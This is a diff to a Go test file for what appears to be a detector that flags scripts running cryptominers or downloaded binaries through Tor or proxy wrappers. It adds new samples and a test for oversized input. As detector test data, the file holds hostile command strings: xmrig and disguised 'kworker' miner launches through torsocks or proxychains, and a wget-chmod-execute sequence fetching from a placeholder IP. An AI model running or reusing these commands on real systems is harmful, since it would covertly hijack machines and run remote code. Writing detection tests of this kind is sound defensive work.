@@ -1,6 +1,7 @@
 package anonymizer
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/safepull/safepull/trust"
@@ -22,7 +23,9 @@ func samples() []indicatortest.Sample {
 		{Name: "miner-torsocks", Path: "a.sh", Kind: script, Content: "nohup torsocks xmrig --url x.onion:10032 >/dev/null 2>&1 &", Want: trust.Strong},
 		{Name: "options", Path: "a.sh", Kind: script, Content: "sudo torify /opt/kworker -o stratum+tcp://203.0.113.7:3333 -u x", Want: trust.Strong},
 		{Name: "own-pool", Path: "a.sh", Kind: script, Content: "if true; then proxychains -f /etc/p.conf /opt/kworker -o 203.0.113.7:3333 -u x -p x; fi", Want: trust.Strong},
-		{Name: "downloaded", Path: "a.sh", Kind: script, Content: "wget -O /tmp/.d http://203.0.113.7/d\nchmod +x /tmp/.d\ntorsocks /tmp/.d\n", Want: trust.Strong},
+		{Name: "downloaded", Path: "a.sh", Kind: script, Content: "wget -O /tmp/.d http://203.0.113.7/d\nchmod +x /tmp/.d\ntorsocks /tmp/.d\n", Want: trust.Proof},
+		{Name: "downloaded-elsewhere", Path: "a.sh", Kind: script, Content: "wget -O /opt/d http://203.0.113.7/d\nchmod +x /opt/d\ntorsocks /opt/d\n", Want: trust.Strong},
+		{Name: "supervisord", Path: "etc/supervisor/conf.d/a.conf", Kind: script, Content: "[program:a]\ncommand=proxychains4 -q /usr/lib/a -o 203.0.113.7:80 -u a -p x\n", Want: trust.Strong},
 		{Name: "python-list", Path: "dao.py", Kind: script, Content: "subprocess.Popen([\n  'proxychains4', '-q',\n  path + '/xmrig', '-c', 'x'\n])", Want: trust.Strong},
 		{Name: "python-string", Path: "dao.py", Kind: script, Content: `os.system("proxychains4 ./xmrig -o 203.0.113.7:3333 -u w")`, Want: trust.Strong},
 		{Name: "python-unknown", Path: "dao.py", Kind: script, Content: `subprocess.call(["torsocks", "/opt/dao/worker"])`, Want: trust.Weak},
@@ -90,4 +93,24 @@ func FuzzHit(f *testing.F) {
 	f.Fuzz(func(_ *testing.T, in []byte) {
 		indicatortest.Inspect(ind, indicator.File{Path: "x.sh", Kind: trust.KindScript}, in, indicatortest.Drive{})
 	})
+}
+
+func TestUnread(t *testing.T) {
+	t.Parallel()
+	ind, err := New(rules(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, tc := range map[string]struct {
+		content string
+		want    bool
+	}{
+		"bait":    {strings.Repeat("x torsocks y\n", 3000), true},
+		"proxies": {strings.Repeat("socks5://203.0.113.1:1080\n", 5000), false},
+	} {
+		file := indicator.File{Path: "run.sh", Kind: trust.KindScript}
+		if got := indicatortest.Unread(ind, file, []byte(tc.content), indicatortest.Drive{}); (got != "") != tc.want {
+			t.Errorf("%s: unread: %q", name, got)
+		}
+	}
 }
